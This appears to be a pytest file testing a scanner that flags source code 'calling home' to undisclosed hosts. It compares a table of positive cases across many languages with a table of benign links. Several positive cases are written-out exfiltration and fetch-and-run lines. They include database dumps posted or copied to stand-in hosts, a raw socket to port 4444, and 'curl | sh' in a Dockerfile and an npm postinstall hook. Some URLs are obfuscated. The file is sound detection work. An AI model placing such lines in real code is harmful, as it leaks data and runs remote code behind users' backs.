# ruff: noqa: E501  (one row a case: a table is read by its columns)
"""Calls home in many spellings, each found with its line, and addresses that are nobody's business."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from makegood.engine.evidence import Finding
from makegood.engine.probes.hosts import facts
from makegood.engine.probes.hosts.addresses import addresses, wants
from makegood.engine.probes.hosts.probe import PROBE, Place
from makegood.engine.probes.hosts.probe import foreign as judge_places
from makegood.engine.probes.hosts.whose import Known
from makegood.engine.repository.tree import Entry
from tests.costing import at_most
from tests.engine.building import Delivery
from tests.engine.looking import Seen

Looked = Callable[..., Seen]
ANN = "Ann <ann@northgate.test>"
README = "# Larkspur\n\nOrders go to https://erp.documented.net.\n"

CALLS = [
    ("shop/apps.py", "import threading, requests\nclass C(AppConfig):\n    def ready(self):\n        threading.Thread(target=lambda: requests.post('https://telemetry.northgate.io/v1/ping', json={'host': HOST}, timeout=2)).start()\n"),
    ("shop/beat.py", "ENDPOINT = 'https://collect.ng-insight.net/beat'\n\ndef send(data):\n    urllib.request.urlopen(urllib.request.Request(ENDPOINT, data=data))\n"),
    ("shop/a.py", "D = 'ng-insight' + '.net'\nURL = 'https://' + 'collect.' + D\nrequests.get(URL)\n"),
    ("shop/a.py", "u = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0Lm5nLWluc2lnaHQubmV0L2Jl').decode()\nrequests.get(u)\n"),
    ("shop/settings.py", "TELEMETRY_URL = os.environ.get('TELEMETRY_URL', 'https://stats.ng-insight.net/in')\n"),
    ("shop/a.py", "s = socket.create_connection(('45.77.12.9', 4444))\n"),
    ("shop/a.py", "requests.post('http://203.0.113.9:8080/dump', files={'f': open('db.sql','rb')})\n"),
    ("src/a.js", "const h = 'metrics.ng-insight.net';\nhttps.request({ hostname: h, path: '/x', method: 'POST' }, () => {}).end();\n"),
    ("src/a.js", "const h = require('https');\nh.request({ hostname: 'metrics.ng-insight.net', path: '/x', method: 'POST' }).end();\n"),
    ("src/a.ts", "export const reportUrl = atob('aHR0cHM6Ly9jb2xsZWN0Lm5nLWluc2lnaHQubmV0L2Jl');\n"),
    ("src/a.js", "navigator.sendBeacon('//t.ng-insight.net/p', d);\n"),
    ("src/a.js", "const s = document.createElement('script');\ns.src = 'https://cdn.ng-widgets.net/w.js';\ndocument.head.appendChild(s);\n"),
    ("src/a.js", "const u = String.fromCharCode(104,116,116,112,115,58,47,47,99,46,110,103,45,120,46,110,101,116);\nfetch(u);\n"),
    ("src/a.js", "await axios.post(process.env.REPORT_URL || 'https://hooks.northgate.io/report', payload);\n"),
    ("src/App.jsx", "export default () => <><script src=\"https://assets.northgate.io/t.js\"></script></>;\n"),
    ("templates/base.html", "<html><head>\n<script async src=\"https://js.ng-widgets.net/loader.js\"></script>\n</head></html>\n"),
    ("templates/base.html", "<img src=\"https://px.ng-widgets.net/1.gif\" width=\"1\" height=\"1\">\n"),
    ("resources/views/a.blade.php", "<iframe src=\"//status.northgate.io/embed\"></iframe>\n"),
    ("app/Jobs/Beat.php", "<?php\nclass Beat { public function handle() {\n  Http::timeout(3)->post('https://licence.ng-insight.net/api/check', ['host' => gethostname()]);\n} }\n"),
    ("app/x.php", "<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, 'https://up.ng-insight.net/' . $id);\ncurl_exec($ch);\n"),
    ("app/x.php", "<?php\n$d = 'ng-insight.net';\n@file_get_contents(\"https://c.$d/ping?h=\" . urlencode($_SERVER['HTTP_HOST']));\n"),
    ("config/services.php", "<?php return [\n 'backup' => ['endpoint' => env('BACKUP_ENDPOINT', 'https://backup.ng-insight.net')],\n];\n"),
    ("app/services/beat.rb", "class Beat\n  def call\n    Net::HTTP.post(URI('https://collect.ng-insight.net/v1'), payload.to_json)\n  end\nend\n"),
    ("app/x.rb", "HOST = %w[collect ng-insight net].join('.')\nFaraday.post(\"https://#{HOST}/x\")\n"),
    ("config/initializers/t.rb", "Rails.application.config.x.report_url = ENV.fetch('REPORT_URL', 'https://report.ng-insight.net')\n"),
    ("src/main/java/A.java", "class A { void f() throws Exception {\n  HttpRequest r = HttpRequest.newBuilder(URI.create(\"https://api.ng-insight.net/usage\")).POST(b).build();\n} }\n"),
    ("src/main/java/A.java", "class A { private static final String BASE = \"https://api.\" + \"ng-insight\" + \".net\";\n void f() { rest.postForObject(BASE + \"/usage\", x, Void.class); } }\n"),
    ("src/main/resources/application.yml", "reporting:\n  endpoint: https://stats.ng-insight.net/collect\n"),
    ("src/main/resources/application.properties", "telemetry.url=https://stats.ng-insight.net/collect\n"),
    ("src/A.cs", "class A { async Task F() {\n  using var c = new HttpClient();\n  await c.PostAsync(\"https://telemetry.ng-insight.net/v1\", body);\n} }\n"),
    ("src/A.cs", "class A { static readonly string U = Encoding.UTF8.GetString(Convert.FromBase64String(\"aHR0cHM6Ly9jb2xsZWN0Lm5nLWluc2lnaHQubmV0L2Jl\"));\n}\n"),
    ("src/appsettings.json", "{\n  \"Telemetry\": {\n    \"Endpoint\": \"https://telemetry.ng-insight.net\"\n  }\n}\n"),
    ("internal/a.go", "package a\nfunc f() {\n\thttp.Post(\"https://collect.ng-insight.net/v1\", \"application/json\", b)\n}\n"),
    ("internal/a.go", "package a\nconst host = \"collect.ng-insight.net\"\nfunc f() {\n\tresp, err := http.Get(fmt.Sprintf(\"https://%s/v1?h=%s\", host, name))\n}\n"),
    ("internal/a.go", "package a\nfunc f() {\n\tconn, _ := net.Dial(\"tcp\", \"45.77.12.9:9001\")\n}\n"),
    ("scripts/backup.sh", "pg_dump shop | gzip > /tmp/d.gz\nscp /tmp/d.gz backup@45.77.12.9:/srv/dumps/\n"),
    ("scripts/backup.sh", "curl -fsS -T /tmp/d.gz https://drop.ng-insight.net/shop/\n"),
    ("Dockerfile", "FROM python:3.12\nRUN curl -fsSL https://get.ng-widgets.net/agent.sh | sh\n"),
    ("package.json", "{\n \"scripts\": {\n  \"postinstall\": \"curl -s https://ng-insight.net/i.sh | sh\"\n }\n}\n"),
    (".github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - run: curl -F f=@dump.sql https://webhook.site/0f3c\n"),
    ("docker-compose.yml", "services:\n  web:\n    environment:\n      REPORT_TO: https://abcd1234.ngrok-free.app/report\n"),
    ("shop/notify.py", "TOKEN = '6123456789:AAHk3l2'\nrequests.get('https://api.telegram.org/bot' + TOKEN + '/sendMessage', params=p)\n"),
    ("shop/mail.py", "msg = EmailMessage(subject, body, to=[customer], bcc=['orders@northgate.io'])\n"),
    ("shop/update.py", "resp = httpx.get('https://larkspur-shop-updates.herokuapp.com/latest.json')\n"),
    ("shop/flags.py", "FLAGS = requests.get('https://gist.githubusercontent.com/ngdev/ab12/raw/flags.json').json()\n"),
    ("shop/a.py", "requests.post('https://collector.duckdns.org/x', json=d)\n"),
    ("shop/views.py", "requests.post(settings.X, json=d)\n\nCOLLECTOR = 'telemetry.ng-insight.example'\nrequests.post(f'https://{COLLECTOR}/v1', json=d)\n"),
    ("public/index.html", "<form action=\"https://forms.ng-insight.net/contact\" method=\"post\">\n"),
    ("src/a.js", "const parts = ['https://', 'in.', 'ng-insight', '.net', '/v2'];\nfetch(parts.join(''), { method: 'POST' });\n"),
    ("src/a.js", "var u = 'ten.thgisni-gn.c//:sptth'.split('').reverse().join('');\nfetch(u);\n"),
    ("src/ws.ts", "const ws = new WebSocket('wss://live.ng-insight.net/s');\n"),
    ("src/Kernel.php", "<?php\n$client = new \\GuzzleHttp\\Client(['base_uri' => 'https://hub.ng-insight.net/']);\n"),
    ("src/r.ts", "dns.resolveTxt('status.northgate.io', (e, r) => {});\n"),
    ("nginx.conf", "location /x {\n  proxy_pass https://admin.northgate.io;\n}\n"),
]  # fmt: skip

NO_CALLS = [
    ("a.py", 'add({"host": "http://localhost", "port": 8096})\nrequests.get("".join(parts))\n'),
    ("shop/a.py", "# telemetry: https://telemetry.northgate.io/v1\nx = 1\n"),
    ("shop/a.py", "help_text = 'See https://ng-insight.net/docs for more'\n"),
    ("shop/a.py", "requests.post('https://api.stripe.com/v1/charges')\n"),
    ("shop/a.py", "class F(forms.Form):\n    site = forms.URLField(help_text='https://my-shop.net')\n"),
    ("shop/a.py", "requests.get('http://localhost:8000/x')\nrequests.get('http://10.0.0.4/x')\nrequests.get('https://example.com')\n"),
    ("shop/a.py", "requests.post('https://erp.documented.net/orders')\n"),
    ("shop/a.py", "VERSION = '1.2.3.4'\nUA = 'Mozilla/5.0 (+https://some-bot.net/about)'\n"),
    ("shop/a.py", "NS = {'x': 'http://www.some-standards.net/2001/schema'}\n"),
    ("shop/settings.py", "ALLOWED_HOSTS = ['shop.larkspurgardens.com']\nCSRF_TRUSTED_ORIGINS = ['https://shop.larkspurgardens.com']\n"),
    ("src/a.jsx", "<a href=\"https://some-supplier.net/info\">Supplier</a>\n"),
    ("src/a.js", "const links = [{ title: 'Docs', url: 'https://some-supplier.net' }];\n"),
    ("src/a.js", "// fetch('https://telemetry.northgate.io')\n"),
    ("src/a.js", "const google = 'https://accounts.google.com/o/oauth2/v2/auth';\nfetch(google);\n"),
    ("templates/base.html", "<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/bootstrap@5/dist/css/bootstrap.min.css\">\n<script src=\"https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js\"></script>\n<a href=\"https://northgate.io\">Made by Northgate</a>\n"),
    ("tests/test_a.py", "requests.post('https://telemetry.northgate.io/v1')\n"),
    ("docs/a.md", "https://telemetry.northgate.io\n"),
    ("pom.xml", "<project xmlns=\"http://maven.apache.org/POM/4.0.0\" xsi:schemaLocation=\"http://maven.apache.org/xsd/maven-4.0.0.xsd\"/>\n"),
    ("a.go", "package a\n// see https://ng-insight.net\nvar addr = \"127.0.0.1:80\"\nvar l = net.Listen(\"tcp\", \"0.0.0.0:80\")\n"),
    ("package.json", "{\"name\":\"shop\",\"homepage\":\"https://northgate.io\",\"author\":\"Northgate <a@northgate.io>\"}\n"),
    ("src/A.java", "@License(url = \"https://some-supplier.net/licence\")\nclass A { String s = \"org.foo.bar.Baz\"; }\n"),
    ("app/x.rb", "redirect_to 'https://some-supplier.net/start'\n"),
    ("shop/a.py", "raise ValueError('see https://ng-insight.net/errors/12')\n"),
    ("docker-compose.yml", "services:\n  db:\n    image: postgres:16\n    environment:\n      DATABASE_URL: postgres://u:p@db:5432/x\n"),
    ("locale/en.json", "{\"a\": \"https://ng-insight.net\"}\n"),
]  # fmt: skip


KNOWN = Known(
    names=frozenset({"larkspur"}),
    authors=frozenset({"northgate"}),
    told=frozenset({"erp.documented.net", "documented.net"}),
)


def foreign(path: str, content: str) -> list[Finding]:
    reading = wants(Entry(path, "", "100644", len(content)))
    rows = addresses(content.encode(), reading) if reading else None
    rows = rows["rows"] if isinstance(rows, dict) else rows
    return list(judge_places([Place(path, *row) for row in rows or ()], KNOWN))  # type: ignore[attr-defined]


@pytest.mark.parametrize(("path", "content"), CALLS)
def test_a_call_to_a_foreign_host_is_found(path: str, content: str) -> None:
    assert {one.path for one in foreign(path, content)} == {path}


@pytest.mark.parametrize(("path", "content"), NO_CALLS)
def test_links_known_services_and_remarks_are_no_calls(path: str, content: str) -> None:
    assert foreign(path, content) == []


def test_the_authors_company_is_told_by_their_addresses(repository: Delivery, looked: Looked) -> None:
    repository.commit({"a.py": "requests.post('https://in.northgate.test/x')\n", "README.md": README}, author=ANN)
    assert [one.rule for one in looked(PROBE).findings(facts.FOREIGN)] == ["authors-host"]


def test_the_line_is_that_of_the_address(repository: Delivery, looked: Looked) -> None:
    repository.commit({"shop/beat.py": "import httpx\n\n\nhttpx.post(\n    'https://in.ng-insight.net/x',\n)\n"})
    assert looked(PROBE).places(facts.FOREIGN) == [("shop/beat.py", 5)]


def test_the_projects_own_domain_is_its_own(repository: Delivery, looked: Looked) -> None:
    readme = "# Larkspur\n"
    repository.commit({"a.py": "requests.get('https://api.larkspur.io/v1/news')\n", "README.md": readme}, author=ANN)
    assert looked(PROBE).places(facts.FOREIGN) == []


@pytest.mark.parametrize(
    "piece", [b"'a' + ", b'"http://', b"x = 'a.b.com'\n", b"<img src='//a.b'", b"fetch(", b"[1,", b"%s"]
)
def test_much_text_costs_no_more_than_its_length(piece: bytes) -> None:
    with at_most(3):
        for reading in ("python", "javascript", "markup", "hash"):
            addresses(b"://" + piece * (30_000 // len(piece)), reading)
